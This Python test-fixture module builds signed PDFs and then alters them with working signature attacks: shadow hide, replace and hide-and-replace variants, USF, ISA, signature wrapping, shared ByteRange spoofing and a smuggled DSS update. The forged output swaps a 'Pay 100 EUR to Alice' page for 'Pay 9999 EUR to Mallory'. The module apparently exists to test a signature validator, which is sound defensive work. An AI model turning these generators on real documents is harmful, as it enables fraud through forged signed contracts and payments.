"""Small signed PDFs for the signature-category tests, made with pyHanko at test time.

One tiny one-page document ("Pay 100 EUR" in Helvetica) with a text field, signed by a test
PKI (``tests.seal_helpers.make_pki``), then changed after signing the way each category says:

* legitimate: a DSS (PAdES-LTV validation data), a document timestamp, a second signature, a
  form field filled in;
* content changed after signing; the shadow attacks of Mainka, Mladenov and Schwenk
  ("Shadow Attacks: Hiding and Replacing Content in Signed PDFs", NDSS 2021): hide (an overlay
  object rewritten, or its xref entry redirected), replace (a signed form value overwritten, the
  font redefined), hide-and-replace (the page pointed at content hidden in the signed part);
* the spoofing attacks of Mladenov et al. ("1 Trillion Dollar Refund", CCS 2019): USF (no
  /ByteRange), ISA (an incremental save with no signature), SWA (objects moved into the hole of
  the byte range), two signature dictionaries sharing one /ByteRange, a byte range that leaves
  bytes uncovered;
* an expired signer certificate whose signature a later document timestamp proves earlier.

Every file is a few kilobytes and takes milliseconds to make.
"""

from __future__ import annotations

import asyncio
import io
import re
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta

from asn1crypto import keys as asn1_keys
from cryptography.hazmat.primitives import serialization

from signing.keys import to_asn1
from tests.seal_helpers import Pki, make_pki

PAGE_TEXT = b"BT /F1 18 Tf 72 720 Td (Pay 100 EUR to Alice) Tj ET"
HIDDEN_TEXT = b"BT /F1 18 Tf 72 720 Td (Pay 9999 EUR to Mallory) Tj ET"
# a white box drawn over the text at (72, 700)-(472, 750): the overlay of the "hide" attack
OVERLAY = b"q 1 1 1 rg 60 690 500 70 re f Q"


@dataclass(frozen=True)
class Base:
    data: bytes
    overlay_id: int
    """The object number of the overlay XObject (white box over the hidden text)."""
    hidden_content_id: int
    """An unreferenced content stream in the signed part (the "hide-and-replace" payload)."""
    content_id: int
    font_id: int
    shadow_root_id: int = 0
    """An unreferenced second catalog, with its own page showing the hidden content."""


def _pkinfo(pki: Pki) -> asn1_keys.PrivateKeyInfo:
    return asn1_keys.PrivateKeyInfo.load(
        pki.leaf_key.private_bytes(
            serialization.Encoding.DER,
            serialization.PrivateFormat.PKCS8,
            serialization.NoEncryption(),
        )
    )


def base_pdf(*, with_overlay: bool = False, field_value: str | None = None) -> Base:
    """The unsigned document: one page, one text field ``Amount`` (filled with
    ``field_value`` when given), an overlay XObject drawn over the page when ``with_overlay``,
    and an unused content stream in the file."""
    from pyhanko.pdf_utils import generic
    from pyhanko.pdf_utils.writer import PdfFileWriter

    w = PdfFileWriter()
    font = w.add_object(
        generic.DictionaryObject(
            {
                generic.NameObject("/Type"): generic.NameObject("/Font"),
                generic.NameObject("/Subtype"): generic.NameObject("/Type1"),
                generic.NameObject("/BaseFont"): generic.NameObject("/Helvetica"),
            }
        )
    )
    overlay = w.add_object(
        generic.StreamObject(
            {
                generic.NameObject("/Type"): generic.NameObject("/XObject"),
                generic.NameObject("/Subtype"): generic.NameObject("/Form"),
                generic.NameObject("/BBox"): generic.ArrayObject(
                    [generic.NumberObject(x) for x in (0, 0, 612, 792)]
                ),
            },
            stream_data=OVERLAY if with_overlay else b"",
        )
    )
    text = HIDDEN_TEXT if with_overlay else PAGE_TEXT
    content = w.add_object(
        generic.StreamObject(
            stream_data=text + b"\n/Ov Do\n" + (PAGE_TEXT if with_overlay else b"")
        )
    )
    hidden = w.add_object(generic.StreamObject(stream_data=HIDDEN_TEXT))
    resources = generic.DictionaryObject(
        {
            generic.NameObject("/Font"): generic.DictionaryObject(
                {generic.NameObject("/F1"): font}
            ),
            generic.NameObject("/XObject"): generic.DictionaryObject(
                {generic.NameObject("/Ov"): overlay}
            ),
        }
    )
    page = generic.DictionaryObject(
        {
            generic.NameObject("/Type"): generic.NameObject("/Page"),
            generic.NameObject("/MediaBox"): generic.ArrayObject(
                [generic.NumberObject(x) for x in (0, 0, 612, 792)]
            ),
            generic.NameObject("/Contents"): content,
            generic.NameObject("/Resources"): resources,
        }
    )
    w.insert_page(page)
    page_ref = w.root["/Pages"]["/Kids"][0]
    ap = w.add_object(
        generic.StreamObject(
            {
                generic.NameObject("/Type"): generic.NameObject("/XObject"),
                generic.NameObject("/Subtype"): generic.NameObject("/Form"),
                generic.NameObject("/BBox"): generic.ArrayObject(
                    [generic.NumberObject(x) for x in (0, 0, 200, 20)]
                ),
                generic.NameObject("/Resources"): resources,
            },
            stream_data=_field_appearance(field_value or ""),
        )
    )
    field_dict = {
        generic.NameObject("/Type"): generic.NameObject("/Annot"),
        generic.NameObject("/Subtype"): generic.NameObject("/Widget"),
        generic.NameObject("/FT"): generic.NameObject("/Tx"),
        generic.NameObject("/T"): generic.TextStringObject("Amount"),
        generic.NameObject("/Rect"): generic.ArrayObject(
            [generic.NumberObject(x) for x in (72, 600, 272, 620)]
        ),
        generic.NameObject("/F"): generic.NumberObject(4),
        generic.NameObject("/P"): page_ref,
        generic.NameObject("/DA"): generic.TextStringObject("/F1 12 Tf 0 g"),
        generic.NameObject("/AP"): generic.DictionaryObject({generic.NameObject("/N"): ap}),
    }
    if field_value is not None:
        field_dict[generic.NameObject("/V")] = generic.TextStringObject(field_value)
    field = w.add_object(generic.DictionaryObject(field_dict))
    page_ref.get_object()[generic.NameObject("/Annots")] = generic.ArrayObject([field])
    w.root[generic.NameObject("/AcroForm")] = generic.DictionaryObject(
        {
            generic.NameObject("/Fields"): generic.ArrayObject([field]),
            generic.NameObject("/DR"): resources,
            generic.NameObject("/DA"): generic.TextStringObject("/F1 12 Tf 0 g"),
        }
    )
    shadow_page = w.add_object(
        generic.DictionaryObject(
            {
                generic.NameObject("/Type"): generic.NameObject("/Page"),
                generic.NameObject("/MediaBox"): generic.ArrayObject(
                    [generic.NumberObject(x) for x in (0, 0, 612, 792)]
                ),
                generic.NameObject("/Contents"): hidden,
                generic.NameObject("/Resources"): resources,
            }
        )
    )
    shadow_pages = w.add_object(
        generic.DictionaryObject(
            {
                generic.NameObject("/Type"): generic.NameObject("/Pages"),
                generic.NameObject("/Kids"): generic.ArrayObject([shadow_page]),
                generic.NameObject("/Count"): generic.NumberObject(1),
            }
        )
    )
    shadow_page.get_object()[generic.NameObject("/Parent")] = shadow_pages
    shadow_root = w.add_object(
        generic.DictionaryObject(
            {
                generic.NameObject("/Type"): generic.NameObject("/Catalog"),
                generic.NameObject("/Pages"): shadow_pages,
            }
        )
    )
    out = io.BytesIO()
    w.write(out)
    return Base(
        shadow_root_id=shadow_root.idnum,
        data=out.getvalue(),
        overlay_id=overlay.idnum,
        hidden_content_id=hidden.idnum,
        content_id=content.idnum,
        font_id=font.idnum,
    )


def _field_appearance(value: str) -> bytes:
    escaped = value.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")
    return f"/Tx BMC BT /F1 12 Tf 2 6 Td ({escaped}) Tj ET EMC".encode("latin-1")


def _run(coro: object) -> object:
    return asyncio.run(coro)  # type: ignore[arg-type]


def sign(
    data: bytes,
    pki: Pki,
    field: str = "Signature1",
    *,
    when: datetime | None = None,
    timestamper: object | None = None,
    certify: bool = False,
    docmdp: object | None = None,
    md_algorithm: str | None = None,
) -> bytes:
    """``data`` signed (an incremental update) by ``pki``'s leaf, claiming the time ``when``."""
    from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
    from pyhanko.sign import fields, signers
    from pyhanko_certvalidator.registry import SimpleCertificateStore

    signer = signers.SimpleSigner(
        signing_cert=to_asn1(pki.leaf),
        signing_key=_pkinfo(pki),
        cert_registry=SimpleCertificateStore.from_certs([to_asn1(pki.root)]),
    )
    writer = IncrementalPdfFileWriter(io.BytesIO(data), strict=False)
    meta = signers.PdfSignatureMetadata(
        field_name=field,
        certify=certify,
        docmdp_permissions=docmdp or fields.MDPPerm.FILL_FORMS,
        md_algorithm=md_algorithm,
    )

    class _AtTime(signers.PdfSigner):
        def init_signing_session(
            self, pdf_out: object, existing_fields_only: bool = False
        ) -> object:  # type: ignore[override]
            session = super().init_signing_session(pdf_out, existing_fields_only)  # type: ignore[arg-type]
            if when is not None:
                session.system_time = when
            return session

    pdf_signer = _AtTime(meta, signer=signer, timestamper=timestamper)  # type: ignore[arg-type]
    out = io.BytesIO()
    _run(pdf_signer.async_sign_pdf(writer, output=out))
    return out.getvalue()


def timestamper(tsa: Pki, when: datetime | None = None) -> object:
    """An RFC 3161 TSA in process (``tsa`` made with ``purpose="tsa"``), answering with the
    time ``when`` when given."""
    from signing.timestamp import DevelopmentTimeStampAuthority

    if when is None:
        return DevelopmentTimeStampAuthority(tsa.leaf, tsa.leaf_key, (tsa.root,))
    fixed = when

    class _Clock(datetime):
        @classmethod
        def now(cls, tz: object = None) -> datetime:  # type: ignore[override]
            return fixed

    return DevelopmentTimeStampAuthority(tsa.leaf, tsa.leaf_key, (tsa.root,), clock=_Clock)


def doc_timestamp(data: bytes, tsa: Pki, when: datetime | None = None) -> bytes:
    """A document timestamp (/DocTimeStamp) in a later revision."""
    from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
    from pyhanko.sign import signers

    writer = IncrementalPdfFileWriter(io.BytesIO(data), strict=False)
    out = io.BytesIO()
    stamper = signers.PdfTimeStamper(timestamper(tsa, when))  # type: ignore[arg-type]
    _run(stamper.async_timestamp_pdf(writer, "sha256", output=out))
    return out.getvalue()


def add_dss(data: bytes, *pkis: Pki) -> bytes:
    """A PAdES-LTV update: a DSS dictionary with the signers' certificates (and a VRI entry)."""
    from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
    from pyhanko.sign.validation.dss import DocumentSecurityStore

    writer = IncrementalPdfFileWriter(io.BytesIO(data), strict=False)
    certs = [to_asn1(c) for p in pkis for c in (p.leaf, p.root)]
    first = writer.prev.embedded_signatures[0]
    DocumentSecurityStore.supply_dss_in_writer(
        writer, first.sig_object.raw_get("/Contents").original_bytes, certs=certs
    )
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def fill_field(data: bytes, value: str) -> bytes:
    """The text field ``Amount`` filled in (value and appearance) in a later revision."""
    from pyhanko.pdf_utils import generic
    from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

    writer = IncrementalPdfFileWriter(io.BytesIO(data), strict=False)
    field_ref = next(
        f for f in writer.root["/AcroForm"]["/Fields"] if f.get_object().get("/T") == "Amount"
    )
    field = field_ref.get_object()
    field[generic.NameObject("/V")] = generic.TextStringObject(value)
    old_ap = field["/AP"].raw_get("/N")
    ap = generic.StreamObject(dict(old_ap.get_object()), stream_data=_field_appearance(value))
    field["/AP"][generic.NameObject("/N")] = writer.add_object(ap)
    writer.mark_update(field_ref)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def replace_object(data: bytes, idnum: int, stream_data: bytes) -> bytes:
    """An incremental update with a new version of stream object ``idnum``."""
    from pyhanko.pdf_utils import generic
    from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

    writer = IncrementalPdfFileWriter(io.BytesIO(data), strict=False)
    ref = generic.Reference(idnum, 0, writer)
    old = ref.get_object()
    new = generic.StreamObject(
        {k: v for k, v in old.items() if k not in ("/Length", "/Filter")},
        stream_data=stream_data,
    )
    writer.objects[(0, idnum)] = new
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def redefine_font(data: bytes, font_id: int) -> bytes:
    """Replace via overwrite: the page's font redefined in a later revision."""
    from pyhanko.pdf_utils import generic
    from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

    writer = IncrementalPdfFileWriter(io.BytesIO(data), strict=False)
    ref = generic.Reference(font_id, 0, writer)
    font = ref.get_object()
    font[generic.NameObject("/BaseFont")] = generic.NameObject("/Courier")
    font[generic.NameObject("/Encoding")] = generic.DictionaryObject(
        {
            generic.NameObject("/Type"): generic.NameObject("/Encoding"),
            generic.NameObject("/Differences"): generic.ArrayObject(
                [generic.NumberObject(49), generic.NameObject("/nine")]
            ),
        }
    )
    writer.mark_update(ref)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _offsets(data: bytes) -> dict[int, int]:
    """Byte offset of each ``N 0 obj`` (the last one of each number wins)."""
    return {int(m.group(1)): m.start() for m in re.finditer(rb"(?m)^(\d+) 0 obj\b", data)}


def _last_startxref(data: bytes) -> int:
    return int(re.findall(rb"startxref\s+(\d+)", data)[-1])


def _trailer_root_size(data: bytes) -> tuple[bytes, int]:
    from pyhanko.pdf_utils.reader import PdfFileReader

    reader = PdfFileReader(io.BytesIO(data), strict=False)
    root = reader.trailer.raw_get("/Root")
    return f"{root.idnum} {root.generation} R".encode(), int(reader.trailer["/Size"])


def xref_only_update(data: bytes, entries: dict[int, int], root: bytes | None = None) -> bytes:
    """An incremental update made of nothing but an xref section and a trailer, pointing object
    numbers at byte offsets already in the signed part ("via Refs" in the shadow-attack paper).
    """
    current_root, size = _trailer_root_size(data)
    root = root or current_root
    prev = _last_startxref(data)
    body = data if data.endswith(b"\n") else data + b"\n"
    start = len(body)
    lines = [b"xref", b"0 1", b"0000000000 65535 f\r"]
    for idnum, offset in sorted(entries.items()):
        lines.append(f"{idnum} 1".encode())
        lines.append(f"{offset:010d} 00000 n\r".encode())
    lines.append(b"trailer")
    lines.append(b"<< /Size %d /Root %s /Prev %d >>" % (size, root, prev))
    lines.append(b"startxref")
    lines.append(str(start).encode())
    lines.append(b"%%EOF\n")
    return body + b"\n".join(lines)


def hide_via_refs_prepared(base: Base) -> bytes:
    """The document the attacker has signed for the "hide via refs" attack: the overlay
    object first written empty, then, in a second revision, as the white box over the text."""
    return replace_object(base.data, base.overlay_id, OVERLAY)


def hide_via_refs(signed: bytes, base: Base) -> bytes:
    """Hide: after signing, an update of nothing but an xref section points the overlay's
    object number back at its first, empty version (still in the signed bytes), so the box
    disappears and the text under it shows, with no new object written."""
    first = re.search(rb"(?m)^%d 0 obj\b" % base.overlay_id, signed)
    assert first is not None
    return xref_only_update(signed, {base.overlay_id: first.start()})


def xref_to_other_object(signed: bytes, base: Base) -> bytes:
    """Hide: the overlay's xref entry pointed (xref only) at another object's bytes."""
    offsets = _offsets(signed)
    return xref_only_update(signed, {base.overlay_id: offsets[base.hidden_content_id]})


def hide_via_free_entry(signed: bytes, base: Base) -> bytes:
    """Hide: an update of nothing but an xref section marking the overlay's object free, so
    the page draws nothing where the white box was (no object written, none pointed at)."""
    current_root, size = _trailer_root_size(signed)
    prev = _last_startxref(signed)
    body = signed if signed.endswith(b"\n") else signed + b"\n"
    lines = [
        b"xref",
        b"0 1",
        b"0000000000 65535 f\r",
        f"{base.overlay_id} 1".encode(),
        b"0000000000 00001 f\r",
        b"trailer",
        b"<< /Size %d /Root %s /Prev %d >>" % (size, current_root, prev),
        b"startxref",
        str(len(body)).encode(),
        b"%%EOF\n",
    ]
    return body + b"\n".join(lines)


def hide_and_replace_via_catalog(signed: bytes, base: Base) -> bytes:
    """Hide-and-replace: a new version of the catalog whose /Pages is the page tree hidden,
    unreferenced, in the signed part (the signature field stays in the form)."""
    from pyhanko.pdf_utils import generic
    from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

    writer = IncrementalPdfFileWriter(io.BytesIO(signed), strict=False)
    shadow = generic.Reference(base.shadow_root_id, 0, writer).get_object()
    writer.root[generic.NameObject("/Pages")] = shadow.raw_get("/Pages")
    writer.update_root()
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def hide_and_replace_via_refs(signed: bytes, base: Base) -> bytes:
    """Hide-and-replace: the page's content-stream object number is pointed (xref only) at the
    content hidden, unused, in the signed part."""
    offsets = _offsets(signed)
    return xref_only_update(signed, {base.content_id: offsets[base.hidden_content_id]})


def hide_and_replace_via_root(signed: bytes, base: Base) -> bytes:
    """Hide-and-replace: an update of nothing but a trailer whose /Root is the second catalog
    hidden, unreferenced, in the signed part: a whole other document is shown."""
    return xref_only_update(signed, {}, root=b"%d 0 R" % base.shadow_root_id)


def hide_and_replace_via_object(data: bytes, base: Base) -> bytes:
    """Hide-and-replace: a new page dictionary version whose /Contents is the hidden stream."""
    from pyhanko.pdf_utils import generic
    from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

    writer = IncrementalPdfFileWriter(io.BytesIO(data), strict=False)
    page_ref = writer.root["/Pages"]["/Kids"].raw_get(0)
    page = page_ref.get_object()
    page[generic.NameObject("/Contents")] = generic.IndirectObject(
        base.hidden_content_id, 0, writer
    )
    writer.mark_update(page_ref)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def add_page_content(data: bytes) -> bytes:
    """ISA (incremental saving attack): new content on the page in an unsigned update."""
    return hide_and_replace_via_object(data, _fake_base(data))


def _fake_base(data: bytes) -> Base:
    from pyhanko.pdf_utils.reader import PdfFileReader

    reader = PdfFileReader(io.BytesIO(data), strict=False)
    page = reader.root["/Pages"]["/Kids"][0].get_object()
    content = page.raw_get("/Contents")
    # the hidden stream follows the page content in base_pdf
    return Base(data, 0, content.idnum + 1, content.idnum, 0)


def dss_overwriting_content(signed: bytes, base: Base) -> bytes:
    """A "DSS update" that smuggles a new version of the page's content stream in as one of
    its certificates: validation data may be added after signing, page content may not."""
    from pyhanko.pdf_utils import generic
    from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

    writer = IncrementalPdfFileWriter(io.BytesIO(signed), strict=False)
    content_ref = generic.Reference(base.content_id, 0, writer)
    writer.objects[(0, base.content_id)] = generic.StreamObject(stream_data=HIDDEN_TEXT)
    dss = generic.DictionaryObject(
        {
            generic.NameObject("/Certs"): generic.ArrayObject(
                [generic.IndirectObject(content_ref.idnum, 0, writer)]
            )
        }
    )
    writer.root[generic.NameObject("/DSS")] = writer.add_object(dss)
    writer.update_root()
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def damage_trailer(data: bytes) -> bytes:
    """The last cross-reference section's trailer given ``/Encrypt 0``, which is not a
    dictionary: pypdf cannot open the file ("/Encrypt entry of the trailer is not a
    dictionary"), as with the signature-spoofing sample of the issue."""
    at = data.rindex(b"/Type /XRef")
    return data[:at] + b"/Type /XRef /Encrypt 0" + data[at + len(b"/Type /XRef") :]


def _sig_dict_span(data: bytes, occurrence: int = -1) -> tuple[int, int]:
    """(start, end) of the /ByteRange [...] array text of one signature."""
    spans = [m.span() for m in re.finditer(rb"/ByteRange\s*\[[^\]]*\]", data)]
    return spans[occurrence]


def remove_byte_range(signed: bytes) -> bytes:
    """USF: the signature dictionary's /ByteRange replaced by spaces (same length)."""
    start, end = _sig_dict_span(signed)
    return signed[:start] + b" " * (end - start) + signed[end:]


def tail_uncovered(signed: bytes, junk: bytes = b"% unsigned tail\n") -> bytes:
    """A /ByteRange that stops short of the end of its revision: the bytes after it are not
    covered (edited in place, same length, so offsets stay valid)."""
    start, end = _sig_dict_span(signed)
    text = signed[start:end].decode()
    nums = [int(n) for n in re.findall(r"\d+", text)]
    nums[3] -= len(junk)
    new = ("/ByteRange [" + " ".join(str(n) for n in nums) + "]").ljust(end - start).encode()
    return signed[:start] + new + signed[end:]


def signature_wrapping(signed: bytes, base: Base) -> bytes:
    """SWA: a new version of the page content placed inside the signature's hole (the zero
    padding of /Contents), and an xref section appended that points at it. The signed bytes
    and the /ByteRange are untouched, so the digest still matches."""
    start, end = _sig_dict_span(signed)
    nums = [int(n) for n in re.findall(rb"\d+", signed[start:end])]
    hole_start, hole_end = nums[1], nums[2]
    contents = signed[hole_start:hole_end]  # b"<hex...>"
    hexdigits = contents[1:-1].rstrip(b"0")
    if len(hexdigits) % 2:
        hexdigits += b"0"
    evil = (
        b"\n%d 0 obj\n<< /Length %d >>\nstream\n" % (base.content_id, len(HIDDEN_TEXT))
        + HIDDEN_TEXT
        + b"\nendstream\nendobj\n"
    )
    keep = len(hexdigits) + 2
    room = len(contents) - keep
    assert room > len(evil) + 2, "no room in the signature hole"
    new_hole = b"<" + hexdigits + b">" + evil + b" " * (room - len(evil))
    evil_offset = hole_start + keep + 1
    wrapped = signed[:hole_start] + new_hole + signed[hole_end:]
    return xref_only_update(wrapped, {base.content_id: evil_offset})


def shared_byte_range(signed: bytes) -> bytes:
    """Signature spoofing: a second signature dictionary (field ``Signature2``, another name in
    /Reason) appended in an update, with the same /ByteRange and /Contents as the first: two
    signature dictionaries sharing one byte range."""
    from pyhanko.pdf_utils import generic
    from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

    writer = IncrementalPdfFileWriter(io.BytesIO(signed), strict=False)
    form = writer.root["/AcroForm"]
    first = next(f.get_object() for f in form["/Fields"] if f.get_object().get("/FT") == "/Sig")
    old_sig = first["/V"]
    new_sig = generic.DictionaryObject(
        {
            k: v
            for k, v in old_sig.items()
            if k in ("/Type", "/Filter", "/SubFilter", "/ByteRange", "/Contents", "/M")
        }
    )
    new_sig[generic.NameObject("/Name")] = generic.TextStringObject("Mallory")
    page_ref = writer.root["/Pages"]["/Kids"].raw_get(0)
    widget = writer.add_object(
        generic.DictionaryObject(
            {
                generic.NameObject("/Type"): generic.NameObject("/Annot"),
                generic.NameObject("/Subtype"): generic.NameObject("/Widget"),
                generic.NameObject("/FT"): generic.NameObject("/Sig"),
                generic.NameObject("/T"): generic.TextStringObject("Signature2"),
                generic.NameObject("/Rect"): generic.ArrayObject([generic.NumberObject(0)] * 4),
                generic.NameObject("/F"): generic.NumberObject(132),
                generic.NameObject("/P"): page_ref,
                generic.NameObject("/V"): writer.add_object(new_sig),
            }
        )
    )
    form["/Fields"].append(widget)
    writer.update_container(form["/Fields"])
    page = page_ref.get_object()
    page["/Annots"].append(widget)
    writer.update_container(page["/Annots"])
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def expired_pki(label: str, purpose: str = "seal") -> Pki:
    """A PKI whose leaf was valid for a year, ending two years ago."""
    return make_pki(
        label,
        purpose=purpose,
        not_before=datetime.now(UTC) - timedelta(days=3 * 365),
        leaf_days=365,
    )


def as_subfilter(signed: bytes, subfilter: bytes = b"/adbe.pkcs7.sha1") -> bytes:
    """The signature's /SubFilter renamed (same length, padded): a format pyHanko does not
    validate, such as the old ``adbe.pkcs7.sha1``."""
    old = b"/adbe.pkcs7.detached"
    assert old in signed and len(subfilter) <= len(old)
    return signed.replace(old, subfilter.ljust(len(old)), 1)
